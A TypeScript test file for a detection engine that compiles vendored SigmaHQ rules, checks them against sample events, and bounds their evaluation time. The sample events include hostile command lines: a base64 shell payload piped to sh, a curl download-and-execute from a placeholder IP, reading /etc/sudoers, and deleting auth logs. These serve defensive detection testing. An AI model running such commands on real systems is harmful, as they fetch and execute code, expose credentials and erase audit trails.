// A public rule corpus (SigmaHQ rules, vendored under corpus/sigmahq with their licence) through the engine:
// every rule compiles or is refused with its construct named (no crash), matches the events it was written
// for, and evaluates a 1 MB value in every field it reads within its step budget (no hang). The rules are
// for other products, so their logsource.product is set to gitlab before compiling: the detection logic is
// what is under test.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { compileRule, RuleLoadError, StepBudget, type CompiledRule } from '../../detections/engine';

const DIR = join(__dirname, 'corpus', 'sigmahq');
const FILES = readdirSync(DIR).filter((f) => f.endsWith('.yml')).sort();

function load(file: string): { rule?: CompiledRule; error?: string; fields: string[] } {
  const doc = parse(readFileSync(join(DIR, file), 'utf8')) as { logsource: Record<string, unknown>; detection: Record<string, unknown> };
  doc.logsource.product = 'gitlab';
  const fields = new Set<string>();
  for (const [name, body] of Object.entries(doc.detection)) {
    if (name === 'condition') continue;
    for (const map of Array.isArray(body) ? body : [body]) for (const key of Object.keys(map as object)) fields.add(key.split('|')[0]);
  }
  try {
    return { rule: compileRule(doc, file, 'user'), fields: [...fields] };
  } catch (err) {
    if (err instanceof RuleLoadError) return { error: err.message, fields: [...fields] };
    throw err;
  }
}

describe('SigmaHQ corpus', () => {
  it('every vendored rule compiles, or is refused naming the construct', () => {
    const outcomes = Object.fromEntries(FILES.map((f) => [f, load(f).error ?? 'compiles']));
    expect(outcomes).toEqual({
      'github_disable_high_risk_configuration.yml': 'compiles',
      'github_new_secret_created.yml': 'compiles',
      'github_push_protection_bypass_detected.yml': 'compiles',
      'net_connection_win_office_outbound_non_local_ip.yml': 'compiles',
      'proc_creation_lnx_base64_shebang_cli.yml': 'compiles',
      'proc_creation_lnx_cat_sudoers.yml': 'compiles',
      'proc_creation_lnx_clear_logs.yml': 'compiles',
      'proc_creation_lnx_curl_wget_exec_tmp.yml': 'compiles',
      // \s, \d and (?: are outside Sigma's regular-expression subset.
      'proc_creation_win_invoke_obfuscation_var.yml': expect.stringContaining(
        'proc_creation_win_invoke_obfuscation_var.yml: detection.selection: field "CommandLine|re": regular expression',
      ) as unknown as string,
    });
    expect(load('proc_creation_win_invoke_obfuscation_var.yml').error).toContain(`"(?" at position 12 (lookaround, non-capturing group or inline flag) is not in Sigma's regular-expression subset`);
  });

  it.each([
    ['github_push_protection_bypass_detected.yml', { action: 'repo.secret_scanning_push_protection.bypass' }, true],
    ['github_push_protection_bypass_detected.yml', { action: 'repo.secret_scanning_push_protection.enable' }, false],
    ['github_disable_high_risk_configuration.yml', { action: 'org.disable_two_factor_requirement' }, true],
    ['github_new_secret_created.yml', { action: 'repo.create_actions_secret' }, true],
    ['proc_creation_lnx_base64_shebang_cli.yml', { CommandLine: 'echo IyEvYmluL2Jhc2ggLWkK | base64 -d | sh' }, true],
    ['proc_creation_lnx_curl_wget_exec_tmp.yml', { CommandLine: '/usr/bin/curl -o /dev/shm/x http://203.0.113.9/x && sh -c /dev/shm/x' }, true],
    ['proc_creation_lnx_curl_wget_exec_tmp.yml', { CommandLine: '/usr/bin/curl -o /dev/shm/x http://203.0.113.9/x' }, false],
    ['proc_creation_lnx_cat_sudoers.yml', { Image: '/usr/bin/cat', CommandLine: 'cat /etc/sudoers' }, true],
    ['proc_creation_lnx_clear_logs.yml', { Image: '/usr/bin/rm', CommandLine: 'rm -rf /var/log/auth.log' }, true],
    ['net_connection_win_office_outbound_non_local_ip.yml', { Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', Initiated: 'true', DestinationIp: '203.0.113.9' }, true],
    ['net_connection_win_office_outbound_non_local_ip.yml', { Image: 'C:\\Office16\\winword.exe', Initiated: 'true', DestinationIp: 'fe80::1' }, false],
    ['net_connection_win_office_outbound_non_local_ip.yml', { Image: 'C:\\Office16\\outlook.exe', Initiated: 'true', DestinationIp: '40.92.1.1', DestinationPort: 25 }, false],
    ['net_connection_win_office_outbound_non_local_ip.yml', { Image: 'C:\\Office16\\outlook.exe', Initiated: 'true', DestinationIp: '40.92.1.1', DestinationPort: 8080 }, true],
  ])('%s on %j -> %s', (file, event, want) => {
    expect(load(file).rule!.matches({ id: 1, ...event })).toBe(want);
  });

  it.each(FILES.filter((f) => load(f).rule))('%s evaluates a 1 MB value in every field it reads within its budget', (file) => {
    const { rule, fields } = load(file);
    const huge = `${'\\/'.repeat(1 << 19)}`;
    const event = Object.fromEntries([['id', 1], ...fields.map((f) => [f, huge])]);
    const budget = new StepBudget();
    expect(typeof rule!.matches(event, budget)).toBe('boolean');
    expect(budget.steps).toBeGreaterThan(0);
    expect(budget.steps).toBeLessThan(budget.limit);
  });
});
